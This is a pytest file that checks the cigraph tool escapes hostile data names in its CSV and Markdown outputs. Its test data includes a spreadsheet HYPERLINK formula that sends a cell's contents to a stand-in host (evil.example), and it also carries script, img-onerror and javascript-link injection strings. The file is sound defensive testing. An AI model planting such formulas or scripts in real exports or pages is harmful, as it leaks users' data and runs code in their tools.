"""Fault catalogue 14.4 and 14.5: names from the data reach CSV and Markdown outputs.

A hostile data folder (``hostile_data.py``: spreadsheet formulas, ``<script>``,
``<img onerror>``, Markdown links in ``ci:name``) is built into a workspace; every
CSV cigraph writes is read back with Python's csv reader, every Markdown file is
rendered with markdown-it-py (CommonMark, raw HTML allowed as GitHub allows it).
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner

from cigraph.cli import cli
from cigraph.render.csvout import FORMULA_START
from faults.hostile_data import HOSTILE, hostile_data


def run(*args):
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    data = hostile_data(root / "data")
    ws = root / "ws"
    run("build", "--data", str(data), "--no-bundled", "--workspace", str(ws))
    return ws


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_no_formula(text: str) -> list[str]:
    import re

    number = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
    cells = _cells(text)
    bad = [c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)]
    assert not bad, f"cells a spreadsheet would run: {bad[:5]}"
    return cells


@pytest.mark.parametrize("command, names_a_hostile_cell", [(["gaps"], True), (["centrality"], True),
                                                           (["centrality", "--view", "backbones"], True),
                                                           (["scorecard"], False)])
def test_analysis_csv_neutralises_formulas(hostile_ws, tmp_path, command, names_a_hostile_cell):
    out = tmp_path / "out.csv"
    run(*command, "--workspace", str(hostile_ws), "-o", str(out))
    cells = _assert_no_formula(out.read_text(encoding="utf-8"))
    joined = "\n".join(cells)
    # the hostile names are there, as text
    assert not names_a_hostile_cell or any(f"'{h}" in joined for h in HOSTILE.values() if h.startswith(FORMULA_START)), joined[:2000]


def test_centrality_keeps_real_numbers_numeric(hostile_ws, tmp_path):
    out = tmp_path / "centrality.csv"
    run("centrality", "--workspace", str(hostile_ws), "-o", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows
    for r in rows:
        float(r["degree"]), float(r["betweenness"])  # numbers, not "'0.5"


def test_cypher_csv_neutralises_formulas(hostile_ws, tmp_path):
    graph = tmp_path / "g.lbdb"
    run("load", "--workspace", str(hostile_ws), "--graph", str(graph), "-q")
    result = run("cypher", "--workspace", str(hostile_ws), "--graph", str(graph), "--format", "csv",
                 "MATCH (o:Organization) RETURN o.name AS name, -0.5 AS score ORDER BY name")
    cells = _assert_no_formula(result.stdout)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells
    assert "-0.5" in cells  # a number stays a number


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _rendered_tags(md_text: str) -> list[tuple[str, dict]]:
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(md_text)
    p = _Tags()
    p.feed(html)
    return p.tags


def _assert_inert(md_text: str) -> None:
    tags = _rendered_tags(md_text)
    allowed = {"h1", "h2", "h3", "h4", "h5", "p", "ul", "ol", "li", "strong", "em", "blockquote", "hr", "table",
               "thead", "tbody", "tr", "th", "td"}  # what cigraph's own templates use
    assert {t for t, _ in tags} <= allowed, sorted({t for t, _ in tags} - allowed)
    assert not [a for _, a in tags if a], "no attribute can come from the data"
    for h in ("<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))"):
        # escaped, not dropped: the reader still sees the name as written
        text = h.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert text.replace("[", "\\[").replace("]", "\\]") in md_text or h not in HOSTILE.values()


@pytest.mark.parametrize("command", [["gaps"], ["scorecard"], ["centrality", "--view", "backbones"],
                                     ["centrality"]])
def test_markdown_tables_escape_html(hostile_ws, tmp_path, command):
    out = tmp_path / "out.md"
    run(*command, "--workspace", str(hostile_ws), "-o", str(out))
    _assert_inert(out.read_text(encoding="utf-8"))


def test_report_md_escapes_html(hostile_ws, tmp_path):
    out = tmp_path / "report.md"
    run("report", "--workspace", str(hostile_ws), "-o", str(out))
    text = out.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert('x')&lt;/script&gt; Community" in text
    _assert_inert(text)


def test_md_escape_renders_as_the_original_text():
    """In the inline positions cigraph writes (after a label, in a table cell), the escaped
    text renders as exactly the original characters (whitespace runs aside)."""
    from html import unescape

    from markdown_it import MarkdownIt

    from cigraph.render.markdown import md_escape, md_table

    md = MarkdownIt("commonmark").enable("table")
    samples = [*HOSTILE.values(), "a_b_c *x* `code` ~~s~~ \\ back", "&amp; stays &amp;", "<!-- c -->",
               "<http://x>", "![i](http://x/i.png)", "line\nbreak ## not a heading"]
    for s in samples:
        html = md.render("- **name**: " + md_escape(s)).strip()
        assert html.startswith("<ul>\n<li><strong>name</strong>: ") and html.endswith("</li>\n</ul>"), html
        shown = unescape(html[len("<ul>\n<li><strong>name</strong>: "):-len("</li>\n</ul>")])
        assert shown.split() == s.split(), (s, shown)
        cell = md.render(md_table(["c"], [[s]]))
        shown = unescape(cell.split("<td>")[1].split("</td>")[0])
        assert shown.split() == s.split(), (s, shown)


def test_sparql_csv_neutralises_formulas(hostile_ws):
    q = ("PREFIX ci: <https://w3id.org/cigraph#> SELECT ?name (-0.5 AS ?score) WHERE { ?o a ci:Organization ;"
         " ci:name ?name } ORDER BY ?name")
    for extra in ([], ["--timeout", "0"]):  # streamed from the worker, and in process
        result = run("sparql", q, "--format", "csv", "--workspace", str(hostile_ws), *extra)
        cells = _assert_no_formula(result.stdout)
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells
        assert "-0.5" in cells
